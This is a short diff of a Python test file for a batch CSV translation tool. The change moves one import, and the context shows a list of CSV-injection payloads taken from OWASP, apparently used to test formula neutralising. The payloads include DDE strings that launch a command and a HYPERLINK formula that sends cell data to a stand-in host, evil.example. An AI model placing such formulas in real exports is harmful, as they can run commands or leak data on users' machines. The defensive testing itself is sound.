@@ -12,7 +12,7 @@ from model.batch_files import (
     BLANK_ROW, COLUMNS, MAX_BATCH_BYTES, MAX_BATCH_COLUMNS, MAX_BATCH_ROWS, PREVIEW_CELL_CHARS, BatchFileError,
     BatchRow, blank_rows, neutralise, output_columns, preview, read_batch_file, translate_rows, write_results_csv,
 )
-from model.paragraph import MAX_PARAGRAPH_CHARS
+from model.validation import MAX_PARAGRAPH_CHARS
 
 # Payloads from OWASP's CSV Injection page and the issue: each would run as a formula if written as is.
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
